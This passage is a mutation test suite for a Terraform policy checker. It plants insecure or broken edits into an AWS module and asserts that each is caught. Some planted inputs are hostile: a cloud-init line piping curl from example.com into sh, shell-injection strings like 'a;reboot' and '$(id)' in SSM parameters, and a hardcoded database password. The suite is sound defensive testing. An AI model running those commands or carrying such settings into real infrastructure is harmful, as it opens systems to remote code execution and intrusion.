// terraform/checks/test/mutations.test.js
// Plants one error of each kind in a copy of terraform/ and asserts that the check for that kind fails
// with a message naming the problem, and that the unmodified module passes every check.
'use strict';

const assert = require('node:assert/strict');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { test, after } = require('node:test');
const { runChecks, CHECKS } = require('../tfcheck');

const MODULE = path.join(__dirname, '..', '..');
const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'tfcheck-'));
after(() => fs.rmSync(scratch, { recursive: true, force: true }));

function copyModule(name) {
  const dir = path.join(scratch, name);
  fs.cpSync(MODULE, dir, { recursive: true, filter: (src) => !src.startsWith(path.join(MODULE, 'checks')) && !src.includes(`${path.sep}.terraform`) });
  return dir;
}

// Replaces the first occurrence of find in file; a mutation that does not apply is a broken test.
function plant(dir, file, find, replace) {
  const target = path.join(dir, file);
  const text = fs.readFileSync(target, 'utf8');
  assert.ok(text.includes(find), `mutation does not apply: ${file} has no ${JSON.stringify(find)}`);
  fs.writeFileSync(target, text.replace(find, replace));
}

test('the unmodified module passes every check', async () => {
  const results = await runChecks(MODULE);
  for (const check of CHECKS) assert.deepEqual(results[check], [], `${check} failed on the unmodified module`);
});

const MUTATIONS = [
  // fmt
  ['bad formatting', 'fmt', 'instances.tf', '  ami                         = data.aws_ami.this["db"].id', '  ami = data.aws_ami.this["db"].id', /instances\.tf:\d+: not formatted as terraform fmt would/],
  ['interpolation-only string', 'fmt', 'instances.tf', 'instance_type               = var.instance_types.db', 'instance_type               = "${var.instance_types.db}"', /interpolation-only string/],
  ['quoted type constraint', 'fmt', 'variables.tf', 'type        = bool', 'type        = "bool"', /quoted type constraint/],
  // parse
  ['syntax error: missing closing brace', 'parse', 'instances.tf', 'tags = { Role = "db", Name = "${var.project}-db-1" }', 'tags = { Role = "db", Name = "${var.project}-db-1"', /instances\.tf:\d+,\d+-\d+: /],
  ['syntax error: duplicate argument', 'parse', 'security-groups.tf', '  ip_protocol                  = "tcp"\n', '  ip_protocol                  = "tcp"\n  ip_protocol                  = "udp"\n', /Attribute redefined/],
  ['syntax error: unterminated string', 'parse', 'outputs.tf', 'value       = "http://${aws_instance.monitor.public_ip}:3000"', 'value       = "http://${aws_instance.monitor.public_ip}:3000', /outputs\.tf:\d+/],
  ['syntax error in a template', 'parse', 'templates/cloud-init.yaml.tftpl', '%{ endfor ~}\n', '', /templates\/cloud-init\.yaml\.tftpl:\d+,\d+-\d+: Unexpected end of template; The for directive at templates\/cloud-init\.yaml\.tftpl:9,/],
  // schema
  ['unknown block type', 'schema', 'network.tf', 'resource "aws_vpc" "this"', 'resouce "aws_vpc" "this"', /unknown block type "resouce" \(did you mean "resource"\?\)/],
  ['wrong nested argument name', 'schema', 'instances.tf', 'http_tokens                 = "required"', 'http_token                  = "required"', /unknown argument "http_token" \(did you mean "http_tokens"\?\)/],
  ['wrong argument name', 'schema', 'instances.tf', 'instance_type               = var.instance_types.db', 'instance_typ                = var.instance_types.db', /aws_instance\.db: unknown argument "instance_typ"/],
  ['read-only attribute set as an argument', 'schema', 'instances.tf', '  key_name                    = var.key_name\n', '  key_name                    = var.key_name\n  public_ip                   = "192.0.2.1"\n', /unknown argument "public_ip" \(it is read-only/],
  ['unknown resource type', 'schema', 'network.tf', 'resource "aws_internet_gateway" "this"', 'resource "aws_internet_gatway" "this"', /unknown resource type "aws_internet_gatway" \(did you mean "aws_internet_gateway"\?\)/],
  ['dangling resource reference', 'schema', 'instances.tf', 'vpc_security_group_ids      = [aws_security_group.this["db"].id]', 'vpc_security_group_ids      = [aws_security_group.thsi["db"].id]', /reference to undeclared resource aws_security_group\.thsi/],
  ['dangling data source reference', 'schema', 'instances.tf', 'data.aws_ami.this["api"].id', 'data.aws_ami.that["api"].id', /reference to undeclared data\.aws_ami\.that/],
  ['dangling depends_on', 'schema', 'instances.tf', 'depends_on = [aws_iam_role_policy.db,', 'depends_on = [aws_iam_role_policy.dbb,', /reference to undeclared resource aws_iam_role_policy\.dbb/],
  ['wrong argument in a data source filter', 'schema', 'instances.tf', 'name   = "tag:Role"', 'nme    = "tag:Role"', /data\.aws_ami\.this\.filter: unknown argument "nme" \(did you mean "name"\?\)/],
  ['example sets an unknown variable', 'schema', 'terraform.tfvars.example', 'operator_cidr = "203.0.113.7/32"', 'operator_cdir = "203.0.113.7/32"', /sets undeclared variable "operator_cdir" \(did you mean "operator_cidr"\?\)/],
  ['undeclared variable', 'schema', 'instances.tf', 'instance_type               = var.instance_types.db', 'instance_type               = var.instance_type.db', /undeclared variable var\.instance_type \(did you mean "instance_types"\?\)/],
  ['undeclared local', 'schema', 'instances.tf', 'subnet_id                   = local.subnet_id', 'subnet_id                   = local.subnet', /undeclared local\.subnet/],
  ['unknown attribute', 'schema', 'locals.tf', 'aws_instance.db[0].private_ip', 'aws_instance.db[0].private_ipv4', /aws_instance has no attribute "private_ipv4"/],
  ['unknown attribute after a computed index', 'schema', 'iam.tf', 'role   = aws_iam_role.this[each.key].id', 'role   = aws_iam_role.this[each.key].identifier', /aws_iam_role has no attribute "identifier"/],
  ['missing required argument', 'schema', 'security-groups.tf', '  ip_protocol       = "tcp"\n', '', /missing required argument "ip_protocol"/],
  ['unknown function', 'schema', 'network.tf', 'cidrsubnet(var.vpc_cidr, 8, count.index)', 'cidr_subnet(var.vpc_cidr, 8, count.index)', /unknown function cidr_subnet\(\)/],
  ['template variable not passed', 'schema', 'templates/cloud-init.yaml.tftpl', '${key}=${env[key]}', '${key}=${environment[key]}', /uses "environment" but templatefile\(\) does not pass it/],
  ['wrong literal type', 'schema', 'secrets.tf', 'length  = 32', 'length  = "thirty-two"', /argument "length" must be a number/],
  ['wrong argument in the health check', 'schema', 'load-balancer.tf', 'healthy_threshold   = 2', 'healthy_treshold    = 2', /aws_lb_target_group\.this\.health_check: unknown argument "healthy_treshold" \(did you mean "healthy_threshold"\?\)/],
  ['wrong RDS argument', 'schema', 'database.tf', 'storage_encrypted = true', 'storage_encryptd  = true', /aws_db_instance\.this: unknown argument "storage_encryptd" \(did you mean "storage_encrypted"\?\)/],
  ['each without for_each', 'schema', 'network.tf', 'vpc_id = aws_vpc.this[0].id\n\n  tags = { Name = var.project }', 'vpc_id = aws_vpc.this[0].id\n\n  tags = { Name = each.key }', /each\.key used in a block without for_each/],
  // policy
  ['ingress open to the internet', 'policy', 'security-groups.tf', 'cidr_ipv4         = var.operator_cidr', 'cidr_ipv4         = "0.0.0.0/0"', /ingress open to the internet \(0\.0\.0\.0\/0\)/],
  ['ingress open to the IPv6 internet', 'policy', 'security-groups.tf', 'cidr_ipv4         = var.operator_cidr', 'cidr_ipv6         = "::/0"', /ingress open to the internet \(::\/0\)/],
  ['new rule open to the internet', 'policy', 'security-groups.tf', '# The wide rules.', 'resource "aws_vpc_security_group_ingress_rule" "web" {\n  security_group_id = aws_security_group.this["api"].id\n  cidr_ipv4         = "0.0.0.0/0"\n  ip_protocol       = "tcp"\n  from_port         = 80\n  to_port           = 80\n}\n\n# The wide rules.', /ingress open to the internet \(0\.0\.0\.0\/0\) on port 80[\s\S]*unexpected ingress rule api:80<-world/],
  ['inline ingress rule', 'policy', 'security-groups.tf', '  vpc_id      = local.vpc_id\n', '  vpc_id      = local.vpc_id\n\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n', /not inline rules[\s\S]*ingress open to the internet \(0\.0\.0\.0\/0\) on port 22/],
  ['operator CIDR with a default', 'policy', 'variables.tf', 'variable "operator_cidr" {\n', 'variable "operator_cidr" {\n  default     = "0.0.0.0/0"\n', /variable "operator_cidr" must be required/],
  ['wrong source in the matrix', 'policy', 'locals.tf', '{ from = "api", to = "db", port = 3306', '{ from = "loadgen", to = "db", port = 3306', /unexpected ingress rule db:3306<-loadgen[\s\S]*missing ingress rule db:3306<-api/],
  ['SSH without a key pair', 'policy', 'security-groups.tf', 'for_each = var.key_name == null ? toset([]) : toset(local.host_roles)', 'for_each = toset(local.host_roles)', /unexpected ingress rule api:22<-operator \(key_name = null\)/],
  ['operator CIDR validation accepts the internet', 'policy', 'variables.tf', 'condition     = can(cidrnetmask(var.operator_cidr)) && try(tonumber(split("/", var.operator_cidr)[1]) >= 8, false)', 'condition     = can(cidrnetmask(var.operator_cidr))', /validation accepts 0\.0\.0\.0\/0/],
  ['missing IMDSv2 setting', 'policy', 'instances.tf', '    http_tokens                 = "required"\n', '', /aws_instance\.db: IMDSv2 not enforced/],
  ['IMDSv1 allowed', 'policy', 'instances.tf', 'http_tokens                 = "required"', 'http_tokens                 = "optional"', /IMDSv2 not enforced/],
  ['unencrypted root volume', 'policy', 'instances.tf', 'encrypted   = true', 'encrypted   = false', /aws_instance\.db: root volume not encrypted/],
  ['secret in user_data (reference)', 'policy', 'locals.tf', '{ DB_HOST = local.db_host })', '{ DB_HOST = local.db_host, DB_PASSWORD = ephemeral.random_password.this["db/app-password"].result })', /local\.api_runtime_env: secret material: ephemeral\.random_password\.this/],
  ['secret in user_data (template)', 'policy', 'templates/cloud-init.yaml.tftpl', '%{ endfor ~}\n', '%{ endfor ~}\n      MYSQL_ROOT_PASSWORD=hunter2\n', /templates\/cloud-init\.yaml\.tftpl:\d+: secret material in user_data/],
  ['user_data template breaks the YAML', 'policy', 'templates/cloud-init.yaml.tftpl', '      ${key}=${env[key]}', '${key}=${env[key]}', /aws_instance\.db\[0\]\.user_data: rendered cloud-config is not valid YAML/],
  ['user_data does more than runtime.env', 'policy', 'templates/cloud-init.yaml.tftpl', '%{ endfor ~}\n', '%{ endfor ~}\nruncmd:\n  - [sh, -c, "curl http://example.com | sh"]\n', /cloud-config does more than write runtime\.env: runcmd/],
  ['runtime.env lacks a contract setting', 'policy', 'instances.tf', '{ DB_INSTANCE_ID = aws_instance.db[0].id }', '{}', /aws_instance\.loadgen\["prometheus-demo-loadgen-1"\]\.user_data: runtime\.env lacks DB_INSTANCE_ID/],
  ['runtime.env points at the wrong host', 'policy', 'locals.tf', '{ DB_HOST = local.db_host })', '{ DB_HOST = aws_instance.monitor.private_ip })', /runtime\.env DB_HOST=aws_instance\.monitor\.private_ip, expected aws_instance\.db\[0\]\.private_ip/],
  ['plain String parameter', 'policy', 'secrets.tf', 'type             = "SecureString"', 'type             = "String"', /type must be SecureString/],
  ['secret kept in state and output', 'policy', 'outputs.tf', 'output "grafana_url" {', 'resource "random_password" "leak" {\n  length = 16\n}\n\noutput "leak" {\n  description = "x"\n  value       = random_password.leak.result\n}\n\noutput "grafana_url" {', /^(?=[\s\S]*managed random_password keeps its value in state)(?=[\s\S]*output "leak": exposes secret material)/],
  ['IAM wildcard action', 'policy', 'iam.tf', 'actions   = ["ssm:GetParameter"]', 'actions   = ["ssm:*"]', /wildcard action ssm:\*/],
  ['IAM action on every resource', 'policy', 'iam.tf', 'resources = [aws_ssm_parameter.this["db/app-password"].arn]', 'resources = ["*"]', /ssm:GetParameter on Resource "\*"/],
  ['SendCommand beyond the db instance', 'policy', 'iam.tf', '[aws_instance.db[0].arn]', '["arn:aws:ec2:*:*:instance/*"]', /ssm:SendCommand must be limited/],
  ['Run Command with AWS-RunShellScript', 'policy', 'iam.tf', 'aws_ssm_document.db_stress_stop.arn]', '"arn:aws:ssm:eu-west-1::document/AWS-RunShellScript"]', /ssm:SendCommand on an AWS document \(arn:aws:ssm:eu-west-1::document\/AWS-RunShellScript\)/],
  ['CancelCommand on every command', 'policy', 'iam.tf', '      "ssm:GetCommandInvocation",\n', '      "ssm:CancelCommand",\n      "ssm:GetCommandInvocation",\n', /ssm:CancelCommand on Resource "\*"[\s\S]*ssm:CancelCommand on "\*" cancels any command/],
  ['no HTTP egress for security updates', 'policy', 'security-groups.tf', '  from_port         = 80\n  to_port           = 80\n', '  from_port         = 8080\n  to_port           = 8080\n', /missing egress rule api:80->world/],
  ['stress duration as free text', 'policy', 'ssm-documents.tf', 'type        = "Integer"', 'type        = "String"', /aws_ssm_document\.db_stress: parameters must be \{"durationSeconds":"Integer"\}/],
  ['stop document takes a parameter', 'policy', 'ssm-documents.tf', '    parameters    = {}\n', '    parameters    = { commands = { type = "StringList" } }\n', /aws_ssm_document\.db_stress_stop: parameters must be \{\}/],
  ['stress document named for another project', 'policy', 'ssm-documents.tf', 'name            = "${var.project}-db-stress"', 'name            = "prometheus-demo-db-stress"', /aws_ssm_document\.db_stress: name must be/],
  ['runtime.env lacks the stress documents', 'policy', 'locals.tf', '        DB_STRESS_DOCUMENT      = aws_ssm_document.db_stress.name\n', '', /runtime\.env lacks DB_STRESS_DOCUMENT/],
  ['AMI not pinned', 'policy', 'instances.tf', '  most_recent = false\n', '  most_recent = true\n', /most_recent = true lets a second bake/],
  ['undocumented variable', 'policy', 'variables.tf', '  description = "Whether to create a dedicated VPC with two public subnets in two availability zones instead of using the account\'s default VPC"\n', '', /variable "create_vpc": no description/],
  // policy: the API's load balancer
  ['load balancer in one subnet', 'policy', 'load-balancer.tf', 'subnets                    = local.subnet_ids', 'subnets                    = [local.subnet_id]', /aws_lb\.this: subnets must list subnets in at least two availability zones[\s\S]*\(create_vpc = false\)/],
  ['dedicated VPC with one subnet', 'policy', 'network.tf', 'count = var.create_vpc ? 2 : 0\n\n  vpc_id            = aws_vpc.this[0].id', 'count = var.create_vpc ? 1 : 0\n\n  vpc_id            = aws_vpc.this[0].id', /aws_lb\.this: subnets names aws_subnet\.this\[1\], but only 1 subnet\(s\) exist \(create_vpc = true\)/],
  ['dedicated VPC subnets in one zone', 'policy', 'network.tf', 'available[0].names[count.index]', 'available[0].names[0]', /aws_lb\.this: subnets subnets share an availability zone/],
  ['default subnets not one per zone', 'policy', 'network.tf', '    name   = "default-for-az"\n', '    name   = "map-public-ip-on-launch"\n', /data\.aws_subnets\.default: must filter on default-for-az = true/],
  ['health check on the traffic port', 'policy', 'load-balancer.tf', 'port                = tostring(local.api_admin_port)', 'port                = "traffic-port"', /health_check port must be 8000 \(the admin port serves \/health\/ready\), got traffic-port/],
  ['health check on liveness', 'policy', 'load-balancer.tf', 'path                = "/health/ready"', 'path                = "/health/live"', /health_check path must be \/health\/ready, got \/health\/live/],
  ['target group on the admin port', 'policy', 'load-balancer.tf', '  port                 = local.api_port\n', '  port                 = local.api_admin_port\n', /aws_lb_target_group\.this: port must be 5000/],
  ['internet-facing load balancer', 'policy', 'load-balancer.tf', 'internal                   = true', 'internal                   = false', /aws_lb\.this: internal must be true: an internet-facing load balancer is open to the world/],
  ['load balancer open to the world', 'policy', 'security-groups.tf', '# The wide rules.', 'resource "aws_vpc_security_group_ingress_rule" "alb_world" {\n  security_group_id = aws_security_group.this["alb"].id\n  cidr_ipv4         = "0.0.0.0/0"\n  ip_protocol       = "tcp"\n  from_port         = 5000\n  to_port           = 5000\n}\n\n# The wide rules.', /ingress open to the internet \(0\.0\.0\.0\/0\) on port 5000[\s\S]*unexpected ingress rule alb:5000<-world/],
  ['load balancer without its security group', 'policy', 'load-balancer.tf', 'security_groups            = [aws_security_group.this["alb"].id]', 'security_groups            = [aws_security_group.this["api"].id]', /aws_lb\.this: security_groups must be \[aws_security_group\.this\["alb"\]\.id\]/],
  ['load generator bypasses the load balancer', 'policy', 'locals.tf', '      alb-http-from-loadgen  = {', '      api-http-from-loadgen  = { from = "loadgen", to = "api", port = 5000, description = "Order API from the load generator" }\n      alb-http-from-loadgen  = {', /unexpected ingress rule api:5000<-loadgen/],
  ['health checks cannot reach the admin port', 'policy', 'locals.tf', '{ from = "alb", to = "api", port = 8000,', '{ from = "alb", to = "api", port = 8080,', /missing ingress rule api:8000<-alb/],
  ['one API host not registered', 'policy', 'load-balancer.tf', '  for_each = local.api_instances\n', '  for_each = { for k, v in local.api_instances : k => v if v == 1 }\n', /API host aws_instance\.api\["prometheus-demo-api-2"\]\.id is not registered with the load balancer/],
  ['listener forwards nowhere useful', 'policy', 'load-balancer.tf', '    type             = "forward"', '    type             = "fixed-response"', /aws_lb_listener\.this: default_action must forward to aws_lb_target_group\.this/],
  ['loadgen is not told where Prometheus is', 'policy', 'instances.tf', 'PROMETHEUS_URL = "http://${aws_instance.monitor.private_ip}:9090"', 'PROMETHEUS_URL = "http://${aws_instance.monitor.private_ip}:9091"', /runtime\.env PROMETHEUS_URL=http:\/\/aws_instance\.monitor\.private_ip:9091, expected http:\/\/aws_instance\.monitor\.private_ip:9090/],
  ['loadgen cannot reach Prometheus', 'policy', 'locals.tf', 'to = "monitor", port = 9090', 'to = "monitor", port = 9091', /unexpected ingress rule monitor:9091<-loadgen[\s\S]*missing ingress rule monitor:9090<-loadgen/],
  ['loadgen reads a database password on RDS', 'policy', 'database.tf', 'resources = [aws_ssm_parameter.this["db/stress-password"].arn]', 'resources = [aws_ssm_parameter.this["db/app-password"].arn]', /role loadgen: ssm:GetParameter on \[db\/app-password\], expected \[db\/stress-password\] \(db_mode = "rds"\)/],
  ['loadgen cannot reach RDS for its SQL stress', 'policy', 'locals.tf', '      db-mysql-from-loadgen ', '      # db-mysql-from-loadgen ', /missing ingress rule db:3306<-loadgen \(key_name = null, db_mode = "rds"\)/],
  ['load host targets the first API host', 'policy', 'instances.tf', 'API_URL        = "http://${aws_lb.this.dns_name}:${local.api_port}"', 'API_URL        = "http://${aws_instance.api["${var.project}-api-1"].private_ip}:5000"', /runtime\.env API_URL=http:\/\/aws_instance\.api\["prometheus-demo-api-1"\]\.private_ip:5000, expected http:\/\/aws_lb\.this\.dns_name:5000/],
  // policy: the optional Auto Scaling group
  ['group replaced on failed readiness', 'policy', 'autoscaling.tf', 'health_check_type         = "EC2"', 'health_check_type         = "ELB"', /aws_autoscaling_group\.api: health_check_type must be "EC2"/],
  ['group in one subnet', 'policy', 'autoscaling.tf', 'vpc_zone_identifier       = local.subnet_ids', 'vpc_zone_identifier       = [local.subnet_id]', /aws_autoscaling_group\.api: vpc_zone_identifier must list subnets in at least two availability zones/],
  ['group not behind the load balancer', 'policy', 'autoscaling.tf', 'target_group_arns         = [aws_lb_target_group.this.arn]', 'target_group_arns         = []', /aws_autoscaling_group\.api: target_group_arns must be \[aws_lb_target_group\.this\.arn\], got \[\]/],
  ['group size not api_instance_count', 'policy', 'autoscaling.tf', 'desired_capacity          = var.api_instance_count', 'desired_capacity          = 2', /aws_autoscaling_group\.api: desired_capacity must be var\.api_instance_count/],
  ['launch template allows IMDSv1', 'policy', 'autoscaling.tf', 'http_tokens                 = "required"', 'http_tokens                 = "optional"', /aws_launch_template\.api: IMDSv2 not enforced/],
  ['launch template with an unencrypted root', 'policy', 'autoscaling.tf', 'encrypted             = true', 'encrypted             = false', /aws_launch_template\.api: root volume not encrypted/],
  ['group hosts without a Role tag', 'policy', 'autoscaling.tf', 'tags          = merge(local.tags, { Role = "api", Name = "${var.project}-api" })', 'tags          = merge(local.tags, { Name = "${var.project}-api" })', /aws_launch_template\.api: tag_specifications for "instance" must set Project, Role = api and Name/],
  ['group hosts without DB_HOST', 'policy', 'autoscaling.tf', 'env = local.api_runtime_env', 'env = local.runtime_env["api"]', /aws_launch_template\.api: user_data runtime\.env .*, expected .*"DB_HOST":"aws_instance\.db\[0\]\.private_ip"/],
  ['individual API hosts beside the group', 'policy', 'locals.tf', 'api_instances = var.api_autoscaling ? {} : {', 'api_instances = {', /api_autoscaling = true: expected 0 API instances, 0 target group attachments, 1 aws_autoscaling_group\.api, 1 aws_launch_template\.api; got 3, 3, 1, 1/],
  // policy: RDS
  ['public RDS instance', 'policy', 'database.tf', 'publicly_accessible    = false', 'publicly_accessible    = true', /aws_db_instance\.this: publicly_accessible must be set to false/],
  ['RDS without publicly_accessible', 'policy', 'database.tf', '  publicly_accessible    = false\n', '', /aws_db_instance\.this: publicly_accessible must be set to false/],
  ['unencrypted RDS instance', 'policy', 'database.tf', 'storage_encrypted = true', 'storage_encrypted = false', /aws_db_instance\.this: storage_encrypted must be true/],
  ['RDS password kept in state', 'policy', 'database.tf', 'password_wo         = ephemeral', 'password            = ephemeral', /aws_db_instance\.this: password is not allowed[\s\S]*password_wo must be/],
  ['performance_schema off', 'policy', 'database.tf', 'value        = "1"', 'value        = "0"', /performance_schema must be "1"/],
  ['Multi-AZ switch ignored', 'policy', 'database.tf', 'multi_az       = var.rds_multi_az', 'multi_az       = false', /multi_az must follow var\.rds_multi_az/],
  ['RDS subnet group in one subnet', 'policy', 'database.tf', 'subnet_ids  = local.subnet_ids', 'subnet_ids  = [local.subnet_id]', /aws_db_subnet_group\.this: subnet_ids must list subnets in at least two availability zones/],
  ['RDS in the API security group', 'policy', 'database.tf', 'vpc_security_group_ids = [aws_security_group.this["db"].id]', 'vpc_security_group_ids = [aws_security_group.this["api"].id]', /vpc_security_group_ids must be \[aws_security_group\.this\["db"\]\.id\]/],
  ['db host launched beside RDS', 'policy', 'instances.tf', '  count = local.rds ? 0 : 1\n', '', /db_mode = "rds" must launch 1 RDS instance and 0 db host, launches 1 and 1/],
  ['monitor not told the RDS endpoint', 'policy', 'locals.tf', '      role == "monitor" && local.rds ? { DB_HOST = local.db_host } : {},\n', '', /aws_instance\.monitor\.user_data \(db_mode = "rds"\): runtime\.env lacks DB_HOST/],
  ['monitor not tagged with the database it exports', 'policy', 'instances.tf', '    local.rds ? { DbInstance = aws_db_instance.this[0].identifier } : {},\n', '', /aws_instance\.monitor: tag DbInstance must be aws_db_instance\.this\[0\]\.identifier with db_mode = "rds", got undefined/],
  ['monitor cannot read the master password', 'policy', 'database.tf', '      aws_ssm_parameter.this["db/master-password"].arn,\n', '', /role monitor: ssm:GetParameter on \[db\/app-password, db\/exporter-password, db\/stress-password, monitor\/\*\], expected .* \(db_mode = "rds"\)/],
  ['monitor reads database passwords without RDS', 'policy', 'database.tf', 'resource "aws_iam_role_policy" "monitor_rds" {\n  count = local.rds ? 1 : 0\n', 'resource "aws_iam_role_policy" "monitor_rds" {\n  count = 1\n', /role monitor: ssm:GetParameter on \[.*db\/master-password.*\], expected \[monitor\/\*\]$/m],
  // policy: multi-host load tests (results bucket, run document, loadgen and operator IAM)
  ["results bucket public (access block off)", 'policy', "results-bucket.tf", "  block_public_policy     = true\n", "  block_public_policy     = false\n", /aws_s3_bucket_public_access_block\.this: block_public_policy must be true/],
  ["results bucket without a public access block", 'policy', "results-bucket.tf", "resource \"aws_s3_bucket_public_access_block\" \"this\" {\n  bucket = aws_s3_bucket.this.id\n", "resource \"aws_s3_bucket_public_access_block\" \"this\" {\n  bucket = \"some-other-bucket\"\n", /aws_s3_bucket_public_access_block for aws_s3_bucket\.this: expected exactly one \(the bucket is private\), found 0/],
  ["results bucket readable by everyone", 'policy', "results-bucket.tf", "data \"aws_iam_policy_document\" \"results_bucket\" {\n", "data \"aws_iam_policy_document\" \"results_bucket\" {\n  statement {\n    sid       = \"PublicRead\"\n    actions   = [\"s3:GetObject\"]\n    resources = [\"${aws_s3_bucket.this.arn}/*\"]\n\n    principals {\n      type        = \"*\"\n      identifiers = [\"*\"]\n    }\n  }\n\n", /aws_s3_bucket_policy\.this: statement PublicRead allows everyone \(s3:GetObject\)/],
  ["results bucket unencrypted", 'policy', "results-bucket.tf", "resource \"aws_s3_bucket_server_side_encryption_configuration\" \"this\" {\n  bucket = aws_s3_bucket.this.id\n\n  rule {\n    apply_server_side_encryption_by_default {\n      sse_algorithm = \"AES256\"\n    }\n  }\n}\n", "", /aws_s3_bucket_server_side_encryption_configuration for aws_s3_bucket\.this: expected exactly one \(the results are encrypted at rest\), found 0/],
  ["bucket policy allows requests without TLS", 'policy', "results-bucket.tf", "values   = [\"false\"]", "values   = [\"true\"]", /aws_s3_bucket_policy\.this: must deny s3:\* to every principal .* when aws:SecureTransport is false/],
  ["bucket policy without the TLS statement", 'policy', "results-bucket.tf", "effect    = \"Deny\"", "effect    = \"Allow\"", /^(?=[\s\S]*aws_s3_bucket_policy\.this: must deny s3:\*)(?=[\s\S]*statement DenyInsecureTransport allows everyone)(?=[\s\S]*results_bucket: wildcard action s3:\*)/],
  ["results kept forever", 'policy', "results-bucket.tf", "    status = \"Enabled\"\n", "    status = \"Disabled\"\n", /aws_s3_bucket_lifecycle_configuration\.this: needs an Enabled rule with expiration/],
  ["results bucket with ACLs on", 'policy', "results-bucket.tf", "object_ownership = \"BucketOwnerEnforced\"", "object_ownership = \"ObjectWriter\"", /object_ownership must be BucketOwnerEnforced \(ACLs off\), got ObjectWriter/],
  ["results bucket named for another project", 'policy', "results-bucket.tf", "bucket = \"${var.project}-loadtest-", "bucket = \"prometheus-demo-loadtest-", /aws_s3_bucket\.this: bucket must be "\$\{var\.project\}-loadtest-<account id>-\$\{var\.region\}"/],
  ["loadgen writes the whole bucket", 'policy', "iam.tf", "resources = [\"${aws_s3_bucket.this.arn}/runs/*\"]", "resources = [\"${aws_s3_bucket.this.arn}/*\"]", /role loadgen: s3:PutObject must be limited to aws_s3_bucket\.this\.arn\/runs\/\*.*got \[s3:PutObject on aws_s3_bucket\.this\.arn\/\*\]/],
  ["loadgen reads and deletes results", 'policy', "iam.tf", "actions   = [\"s3:PutObject\"]", "actions   = [\"s3:PutObject\", \"s3:GetObject\", \"s3:DeleteObject\"]", /role loadgen: s3:PutObject must be limited to .*it may do nothing else in S3/],
  ["loadgen cannot receive Run Command", 'policy', "iam.tf", "data \"aws_iam_policy_document\" \"loadgen_loadtest_run\" {\n  # The SSM agent receives Run Command documents through ec2messages (no resource-level permissions).\n  statement {\n    sid = \"RunCommand\"\n    actions = [\n      \"ec2messages:AcknowledgeMessage\",\n", "data \"aws_iam_policy_document\" \"loadgen_loadtest_run\" {\n  statement {\n    sid = \"RunCommand\"\n    actions = [\n", /role loadgen: missing ec2messages:AcknowledgeMessage: the SSM agent cannot receive the loadtest-run document/],
  ["operator may SendCommand on every instance", 'policy', "iam.tf", "[for name in keys(local.loadgen_instances) : aws_instance.loadgen[name].arn]", "[\"arn:aws:ec2:*:*:instance/*\"]", /data\.aws_iam_policy_document\.loadtest_operator: ssm:SendCommand must be limited to the load hosts and the loadtest-run and loadtest-stop documents/],
  ["operator may send AWS-RunShellScript", 'policy', "iam.tf", "[aws_ssm_document.loadtest_run.arn, aws_ssm_document.loadtest_stop.arn]", "[aws_ssm_document.loadtest_run.arn, \"arn:aws:ssm:eu-west-1::document/AWS-RunShellScript\"]", /loadtest_operator: ssm:SendCommand must be limited to .*document\/AWS-RunShellScript/],
  ["operator reads the whole bucket", 'policy', "iam.tf", "    sid       = \"DownloadResults\"\n    actions   = [\"s3:GetObject\"]\n    resources = [\"${aws_s3_bucket.this.arn}/runs/*\"]", "    sid       = \"DownloadResults\"\n    actions   = [\"s3:GetObject\"]\n    resources = [\"${aws_s3_bucket.this.arn}/*\"]", /loadtest_operator: s3:GetObject must be limited to aws_s3_bucket\.this\.arn\/runs\/\*/],
  ["operator lists the whole bucket", 'policy', "iam.tf", "values   = [\"runs/*\"]", "values   = [\"*\"]", /loadtest_operator: s3:ListBucket must be on aws_s3_bucket\.this\.arn with the condition StringLike s3:prefix = runs\/\*/],
  ["operator policy not exported", 'policy', "outputs.tf", "value       = aws_iam_policy.loadtest_operator.arn", "value       = aws_iam_policy.loadtest_operator.name", /no output exports its ARN/],
  ["run id as free text", 'policy', "ssm-documents.tf", "        allowedPattern = \"^[0-9A-Za-z][0-9A-Za-z_-]{0,63}$\"\n", "", /aws_ssm_document\.loadtest_run: parameter runId takes free text: give it allowedValues or an anchored allowedPattern/],
  ["start time pattern not anchored", 'policy', "ssm-documents.tf", "allowedPattern = \"^20[0-9]{2}-[01][0-9]-[0-3][0-9]T[0-2][0-9]:[0-5][0-9]:[0-5][0-9]Z$\"", "allowedPattern = \"20[0-9]{2}-[01][0-9]-[0-3][0-9]T[0-2][0-9]:[0-5][0-9]:[0-5][0-9]Z\"", /parameter startAt: allowedPattern .* must be anchored[\s\S]*parameter startAt takes free text: allowedPattern .* accepts "2026-12-06T06:30:00Z; reboot"/],
  ["run id pattern that lets the shell in", 'policy', "ssm-documents.tf", "allowedPattern = \"^[0-9A-Za-z][0-9A-Za-z_-]{0,63}$\"", "allowedPattern = \"^[^/]+$\"", /parameter runId takes free text: allowedPattern \^\[\^\/\]\+\$ accepts "a b", "a;reboot", "\$\(id\)"/],
  ["stage as free text", 'policy', "ssm-documents.tf", "        allowedValues = local.loadtest_stages\n", "", /parameter stage takes free text/],
  ["shard index as a String", 'policy', "ssm-documents.tf", "      shardIndex = {\n        type        = \"Integer\"", "      shardIndex = {\n        type        = \"String\"", /parameter shardIndex must be Integer, got String[\s\S]*parameter shardIndex takes free text/],
  ["loadtest run as root", 'policy', "ssm-documents.tf", "runuser -u loadtest -- sh -c", "sh -c", /must run loadtest as the unprivileged loadtest user/],
  ["shard uploaded outside runs/", 'policy', "ssm-documents.tf", "\\\"s3://${aws_s3_bucket.this.bucket}/runs/$run/shard-$index/\\\"; then", "\\\"s3://${aws_s3_bucket.this.bucket}/$run/\\\"; then", /must upload to s3:\/\/<results bucket>\/runs\/<run id>\/shard-<index>\//],
  ['stop document kills more than the shards', 'policy', 'ssm-documents.tf', 'pkill -TERM -u loadtest -x java', 'pkill -KILL java', /aws_ssm_document\.loadtest_stop: must only SIGTERM the loadtest user's JVMs/],
  ['API host cannot receive the api-crash fault', 'policy', 'iam.tf', '  # The SSM agent receives Run Command documents through ec2messages (no resource-level permissions); who may\n  # send what to this host is the sender\'s SendCommand permission (the loadgen\'s InjectFaults).\n  statement {\n    sid = "RunCommand"\n', '  statement {\n    sid = "NotRunCommand"\n    effect = "Deny"\n', /role api: is sent Run Command documents but lacks ec2messages:AcknowledgeMessage/],
];

for (const [name, check, file, find, replace, expected] of MUTATIONS) {
  test(`${check} catches: ${name}`, async () => {
    const dir = copyModule(name.replace(/\W+/g, '-'));
    plant(dir, file, find, replace);
    const results = await runChecks(dir, [check]);
